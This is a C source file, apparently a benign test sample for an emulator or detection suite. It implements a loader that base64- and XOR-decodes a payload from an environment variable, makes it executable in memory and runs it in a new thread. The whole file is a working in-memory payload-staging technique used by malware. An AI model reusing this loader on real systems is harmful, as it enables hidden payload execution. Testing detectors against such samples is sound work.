/*
 * loader.c - generality suite: environment variable -> base64 -> rolling XOR -> RW memory -> RX
 * -> thread. Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * Reads the environment variable UPDATER_CACHE (set by the scenario's [environment]) with
 * GetEnvironmentVariableA, base64-decodes it with CryptStringToBinaryA into a buffer on the
 * stack, XORs it with the rolling key 0x37 + 11*i into a new PAGE_READWRITE allocation, makes
 * that PAGE_EXECUTE_READ with VirtualProtect and runs it in a new thread. The stage
 * (../../lineage-common/payload.c) writes C:\Users\Public\lineage_env.txt.
 * Exit codes: 0 ok, 1 no marker, 2 variable, 3 base64, 4 memory, 5 thread.
 */
#include "common.h"
#include <wincrypt.h>

void Entry(void)
{
    static struct sc_ctx ctx;
    char text[8192];
    BYTE raw[6144];
    DWORD cb, n = sizeof(raw), i, old;
    unsigned char *mem;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    cb = GetEnvironmentVariableA("UPDATER_CACHE", text, sizeof(text));
    if (cb == 0 || cb >= sizeof(text))
        ExitProcess(2);
    if (!CryptStringToBinaryA(text, cb, CRYPT_STRING_BASE64, raw, &n, 0, 0) || n == 0)
        ExitProcess(3);
    mem = (unsigned char *)VirtualAlloc(0, n, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < n; i++)
        mem[i] = raw[i] ^ (unsigned char)(0x37 + i * 11);
    if (!VirtualProtect(mem, n, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_env.txt", "decoded from the environment\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
